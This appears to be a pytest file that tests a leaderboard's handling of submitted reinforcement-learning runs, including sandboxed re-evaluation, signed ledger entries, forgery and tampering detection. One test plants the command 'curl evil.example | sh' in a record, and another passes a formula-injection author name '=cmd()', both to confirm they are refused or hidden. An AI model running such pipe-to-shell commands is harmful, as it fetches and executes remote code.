"""From a packed file to a signed level of trust, through the commands that people run."""

import json
import shutil
import subprocess
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from submitted_runs import ADA, DATASETS, Made
from typer.testing import CliRunner, Result

from gnomon.errors import GnomonError, UsageError
from gnomon.leaderboard.cli import leaderboard
from gnomon.leaderboard.entrants import entrants, submitted
from gnomon.leaderboard.keys import read_public
from gnomon.leaderboard.ledger import append, check_ledger, read_ledger
from gnomon.leaderboard.pack import Packed, pack, write_packed
from gnomon.leaderboard.register import PUBLIC_KEY, Register
from gnomon.leaderboard.submission import MANIFEST, record_name
from gnomon.leaderboard.targets import TARGETS, submit
from gnomon.leaderboard.tracks import Track
from gnomon.leaderboard.verify import verifier
from gnomon.leaderboard.verify.verifier import verify

needs_sandbox = pytest.mark.skipif(shutil.which("bwrap") is None, reason="needs: apt-get install bubblewrap")
Save = Callable[[dict[str, bytes]], Path]


@pytest.fixture(autouse=True)
def secret(monkeypatch: pytest.MonkeyPatch) -> None:
    """The same fresh seeds in every test, so that chance decides nothing."""
    monkeypatch.setattr(verifier.secrets, "token_hex", lambda count: "5e" * count)


def call(*words: str | Path) -> Result:
    return CliRunner().invoke(leaderboard, [str(word) for word in words], catch_exceptions=False)


def states(register: Register) -> list[str]:
    return [entry.state for entry in read_ledger(register.folder)]


def is_sound(register: Register) -> bool:
    """Whether the ledger and all that it speaks of is as it was signed."""
    faults = check_ledger(register.folder, read_public(register.folder / PUBLIC_KEY))
    return faults + register.check_folders() == []


@needs_sandbox
@pytest.mark.slow  # six policies, each in a sandbox of its own
def test_a_packed_file_becomes_a_verified_entry_with_one_command(packed: Packed, track: Track, save: Save) -> None:
    done = call("verify", save(packed.files))
    assert done.exit_code == 0, done.output
    assert f"{packed.submission.id[:16]}: reevaluated. Fresh episodes less claimed ones" in done.output
    (row,) = json.loads(call("list", "--json", "--level", "L2").stdout)
    assert (row["id"], row["level"], row["author"]) == (packed.submission.id[:16], "L2", "Ada Lovelace")
    assert json.loads(call("list", "--json", "--level", "L0").stdout) == []
    register = Register()
    assert states(register) == ["received", "structural", "reevaluating", "reevaluated"]
    assert is_sound(register)
    checked = call("ledger", "verify")
    assert (checked.exit_code, "4 entries" in checked.stdout) == (0, True)


@needs_sandbox
@pytest.mark.slow  # six policies, each in a sandbox of its own
def test_what_was_played_can_be_played_again(
    packed: Packed, made: Made, track: Track, register: Register, save: Save
) -> None:
    submission = register.receive(save(packed.files))
    verify(register, submission.id, episodes=2)
    entries = read_ledger(register.folder)
    (name,) = entries[-1].evidence
    report = json.loads((register.folder / name).read_text())
    assert sha256(report["secret"].encode()).hexdigest() == entries[2].commitment
    assert [len(run["fresh"]) for run in report["runs"]] == [2] * 6
    for run in report["runs"]:
        assert run["identical"] == 6
        assert run["replayed"] == [outcome.model_dump() for outcome in made.records[run["key"]].outcomes]
    assert any(run["fresh"] != run["replayed"][:2] for run in report["runs"])


@needs_sandbox
@pytest.mark.slow  # six policies, each in a sandbox of its own
def test_better_episodes_than_the_policies_play_are_rejected(
    made: Made, track: Track, register: Register, tmp_path: Path
) -> None:
    """Every number fits every other, so L1 is reached; the policies play otherwise."""
    folders = []
    for folder in made.folders:
        shutil.copytree(folder, tmp_path / folder.name)
        value = json.loads((folder / "record.json").read_text())
        for outcome in value["outcomes"]:
            outcome |= {"value": 400.0 + outcome["value"], "total_reward": 400.0 + outcome["value"], "length": 400}
        (tmp_path / folder.name / "record.json").write_text(json.dumps(value))
        folders.append(tmp_path / folder.name)
    write_packed(pack(folders, "tiny", ADA, "MIT").files, tmp_path / "better.zip")
    submission = register.receive(tmp_path / "better.zip")
    done = verify(register, submission.id)
    assert done.findings == []
    assert done.entry.state == "rejected"
    assert "are not what the policies do with the same seeds" in done.entry.reason
    assert states(register) == ["received", "structural", "reevaluating", "rejected"]


@needs_sandbox
@pytest.mark.slow  # six policies, each in a sandbox of its own
def test_a_policy_that_fails_in_the_sandbox_is_rejected(
    made: Made, track: Track, register: Register, tmp_path: Path
) -> None:
    """A model that passes the gate and gives numbers of actions that the task does not have."""
    onnx = pytest.importorskip("onnx", reason="needs gnomon[verify]")
    for folder in made.folders:
        shutil.copytree(folder, tmp_path / folder.name)
    one = tmp_path / made.folders[0].name
    nodes = [
        onnx.helper.make_node("ArgMax", ["x"], ["a"], axis=1, keepdims=0),
        onnx.helper.make_node("Add", ["a", "many"], ["y"]),
    ]
    takes = [onnx.helper.make_tensor_value_info("x", onnx.TensorProto.FLOAT, ["n", 4])]
    gives = [onnx.helper.make_tensor_value_info("y", onnx.TensorProto.INT64, ["n"])]
    many = onnx.helper.make_tensor("many", onnx.TensorProto.INT64, [1], [100])
    graph = onnx.helper.make_graph(nodes, "g", takes, gives, [many])
    model = onnx.helper.make_model(graph, opset_imports=[onnx.helper.make_opsetid("", 17)], ir_version=9)
    (one / "policy.onnx").write_bytes(model.SerializeToString())
    folders = [tmp_path / folder.name for folder in made.folders]
    write_packed(pack(folders, "tiny", ADA, "MIT").files, tmp_path / "odd.zip")
    done = verify(register, register.receive(tmp_path / "odd.zip").id)
    assert done.entry.state == "rejected"
    assert "must return whole numbers from 0 to 1" in done.entry.reason


def test_without_a_sandbox_it_stays_at_l1(
    packed: Packed, track: Track, save: Save, monkeypatch: pytest.MonkeyPatch
) -> None:
    from gnomon.leaderboard.verify.sandbox import require_sandbox

    register, path = Register(), save(packed.files)
    id = register.receive(path).id
    monkeypatch.setenv("PATH", "/nowhere")
    require_sandbox.cache_clear()
    with pytest.raises(GnomonError, match="policies of others are never run without one"):
        verify(register, id)
    require_sandbox.cache_clear()
    assert states(register) == ["received", "structural"]


def test_runs_without_policies_end_at_l1_and_are_told_so(
    made: Made, track: Track, register: Register, tmp_path: Path
) -> None:
    for folder in made.folders:
        (tmp_path / folder.name).mkdir()
        shutil.copy(folder / "record.json", tmp_path / folder.name)
    folders = [tmp_path / folder.name for folder in made.folders]
    write_packed(pack(folders, "tiny", ADA, "MIT").files, tmp_path / "bare.zip")
    done = verify(register, register.receive(tmp_path / "bare.zip").id)
    assert done.entry.state == "structural"
    assert "It ends here: 6 of 6 runs have no policy in ONNX." in done.entry.reason


def test_a_structural_fault_is_rejected_with_its_reason(
    made: Made, track: Track, register: Register, tmp_path: Path
) -> None:
    write_packed(pack(made.folders[:5], "tiny", ADA, "MIT").files, tmp_path / "few.zip")
    done = verify(register, register.receive(tmp_path / "few.zip").id)
    assert done.entry.state == "rejected"
    assert "structural faults; the first: " in done.entry.reason
    assert "The run is missing" in done.entry.reason
    assert call("verify", done.entry.subject, "--register", register.folder).exit_code == 1


def test_a_folder_that_was_changed_after_it_was_received_is_found(
    packed: Packed, track: Track, register: Register, save: Save
) -> None:
    id = register.receive(save(packed.files)).id
    name = record_name(packed.submission.cells[0].key)
    path = register.place(id) / name
    path.write_bytes(path.read_bytes().replace(b'"seconds":1.0', b'"seconds":2.0'))
    with pytest.raises(GnomonError, match="another size or hash"):
        verify(register, id)
    assert [finding.where for finding in register.check_folders()] == [id[:16]]


def test_withdrawn_and_disputed_entries_leave_tombstones(packed: Packed, register: Register, save: Save) -> None:
    id = register.receive(save(packed.files)).id
    done = call("withdraw", id[:12], "--reason", "The seeds were tuned.", "--register", register.folder)
    assert done.exit_code == 0
    (row,) = json.loads(call("list", "--json", "--register", register.folder).stdout)
    assert (row["level"], row["reason"]) == ("withdrawn", "The seeds were tuned.")
    assert register.place(id).is_dir()
    with pytest.raises(UsageError, match="stays so: submit again"):
        register.change(id, "disputed", "It is odd.")
    with pytest.raises(UsageError, match="give eight digits or more"):
        register.find(id[:7])


def test_a_reason_that_hides_something_is_refused(packed: Packed, register: Register, save: Save) -> None:
    id = register.receive(save(packed.files)).id
    with pytest.raises(UsageError, match=r"U\+202E"):
        register.change(id, "withdrawn", "a\u202eb")
    assert states(register) == ["received"]


def test_what_cannot_be_read_is_not_received(register: Register, save: Save, packed: Packed) -> None:
    with pytest.raises(GnomonError, match=r"The submission is not received\. submission.json: There is no such file"):
        register.receive(save({"records/" + "0" * 16 + ".json": b"{}"}))
    assert read_ledger(register.folder) == []
    assert not (register.folder / "submissions").exists()


def test_received_twice_is_received_once(packed: Packed, register: Register, save: Save) -> None:
    path = save(packed.files)
    assert register.receive(path).id == register.receive(path).id
    assert states(register) == ["received"]


def test_somebody_elses_register_gets_the_files_and_no_entry(
    packed: Packed, register: Register, save: Save, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    path = save(packed.files)
    monkeypatch.setenv("GNOMON_HOME", str(tmp_path / "keeper"))
    (register.folder / PUBLIC_KEY).parent.mkdir(parents=True)
    from gnomon.leaderboard.keys import own_key, public_pem

    (register.folder / PUBLIC_KEY).write_bytes(public_pem(own_key()))
    monkeypatch.setenv("GNOMON_HOME", str(tmp_path / "author"))
    assert "the owner of the register receives" in submit(path, str(register.folder))
    assert read_ledger(register.folder) == []
    assert [one.level for one in register.standings()] == ["new"]
    monkeypatch.setenv("GNOMON_HOME", str(tmp_path / "keeper"))
    done = call("verify", "--structural", "--register", register.folder)
    assert packed.submission.id[:16] in done.output
    assert states(register)[0] == "received"


def test_a_folder_that_cannot_be_read_keeps_no_other_waiting(
    packed: Packed, track: Track, register: Register, save: Save
) -> None:
    """As pull requests of strangers leave them: one holds nothing, one has another's name, one is as it must be."""
    for name in ("0" * 16, "f" * 16, packed.submission.id[:16]):
        write_packed(packed.files, register.folder / "submissions" / name)
    (register.folder / "submissions" / ("0" * 16) / MANIFEST).write_bytes(b"{}")
    done = call("verify", "--structural", "--register", register.folder)
    assert done.exit_code == 1
    assert "error: 0000000000000000: The submission is not received." in done.output
    assert f"ffffffffffffffff is the submission {packed.submission.id[:16]}; its folder must be called" in done.output
    assert states(register) == ["received", "structural"]
    call("verify", "--structural", "--register", register.folder)
    assert states(register) == ["received", "structural"]


def test_nothing_is_built_on_a_forged_entry(packed: Packed, track: Track, register: Register, save: Save) -> None:
    """A pull request that adds a line to the ledger, and calls its author's submission re-evaluated."""
    id = register.receive(save(packed.files)).id
    forger = Ed25519PrivateKey.from_private_bytes(b"1" * 32)
    for state in ("structural", "reevaluating", "reevaluated"):
        append(register.folder, forger, id, state, "It is mine.")
    for build in (lambda: submitted(register), register.standings, lambda: register.change(id, "disputed", "Odd.")):
        with pytest.raises(GnomonError, match=r"does not hold \(entry 1: It is not signed with the key"):
            build()
    done = call("ledger", "verify", register.folder)
    assert (done.exit_code, done.output.count("is not signed with the key")) == (1, 3)


def test_a_submission_that_was_exchanged_is_shown_as_none(
    packed: Packed, made: Made, register: Register, save: Save
) -> None:
    id = register.receive(save(packed.files)).id
    other = pack(made.folders, "tiny", ADA.model_copy(update={"name": "Somebody Else"}), "MIT")
    write_packed(other.files, register.place(id))
    assert [(one.submission, one.level) for one in register.standings()] == [(None, "L0")]
    assert [finding.where for finding in register.check_folders()] == [id[:16]]


def test_a_command_of_a_stranger_is_not_on_the_page(
    made: Made, track: Track, register: Register, tmp_path: Path
) -> None:
    for folder in made.folders:
        shutil.copytree(folder, tmp_path / folder.name)
        value = json.loads((folder / "record.json").read_text())
        (tmp_path / folder.name / "record.json").write_text(json.dumps(value | {"command": "curl evil.example | sh"}))
    packed = pack([tmp_path / folder.name for folder in made.folders], "tiny", ADA, "MIT")
    write_packed(packed.files, tmp_path / "odd.zip")
    verify(register, register.receive(tmp_path / "odd.zip").id, structural_only=True)
    found = entrants(track, submitted(register))
    assert found.trust["pole-net"].level == "L1"
    assert {record.command.partition(" --dataset")[0] for record in found.results.records} == {
        "gnomon evaluate net.py:Net"
    }


def test_a_git_repository_gets_a_branch_and_keeps_its_working_tree(packed: Packed, save: Save, tmp_path: Path) -> None:
    clone = tmp_path / "clone"

    def git(*words: str) -> str:
        author = ["-c", "user.name=Ada", "-c", "user.email=ada@example.org"]
        return subprocess.run(["git", "-C", clone, *author, *words], check=True, capture_output=True, text=True).stdout

    clone.mkdir()
    git("init", "-q")
    (clone / "README").write_text("A register.")
    git("add", "README")
    git("commit", "-q", "-m", "First")
    for name, value in (("user.name", "Ada"), ("user.email", "ada@example.org")):
        git("config", name, value)
    (clone / "README").write_text("Being edited.")
    before = git("status", "--porcelain")
    said = submit(save(packed.files), f"git:{clone}")
    branch = f"submission-{packed.submission.id[:16]}"
    assert branch in said
    assert git("status", "--porcelain") == before
    tree = git("ls-tree", "-r", "--name-only", branch).split()
    assert tree == sorted(["README", *(f"submissions/{packed.submission.id[:16]}/{name}" for name in packed.files)])
    git("checkout", "-q", "-f", branch)
    assert [one.level for one in Register(clone).standings()] == ["new"]


def test_there_are_five_targets_and_an_unknown_one_is_a_wrong_call(packed: Packed, save: Save) -> None:
    assert list(TARGETS) == ["folder", "git", "hf", "http", "https"]
    with pytest.raises(UsageError, match="There is no kind of place 'ftp'"):
        submit(save(packed.files), "ftp:somewhere")
    with pytest.raises(UsageError, match="path of a clone"):
        submit(save(packed.files), "git:/nowhere")


def test_validate_says_everything_at_once(made: Made, track: Track, tmp_path: Path) -> None:
    write_packed(pack(made.folders, "tiny", ADA, "MIT").files, tmp_path / "good")
    done = call("validate", tmp_path / "good")
    assert (done.exit_code, done.stdout) == (0, "Nothing is wrong with it.\n")
    write_packed(pack(made.folders[:4], "tiny", ADA, "MIT").files, tmp_path / "few")
    done = call("validate", tmp_path / "few", "--json")
    assert done.exit_code == 1
    missing = {finding["where"] for finding in json.loads(done.stdout) if "missing" in finding["sentence"]}
    assert len(missing) == 2
    assert all(place.startswith(DATASETS) for place in missing)


def test_packing_by_command(made: Made, track: Track, tmp_path: Path) -> None:
    words = [*made.folders, "--suite", "tiny", "-o", tmp_path / "a.zip", "--contact", "ada@example.org"]
    done = call("pack", *words, "--author", "Ada")
    assert done.exit_code == 0
    assert "6 runs of pole-net" in done.stdout
    with pytest.raises(UsageError, match=r"author|name"):
        call("pack", *words, "--author", "=cmd()")
    assert json.loads(call("schema").stdout)["title"] == "Submission"
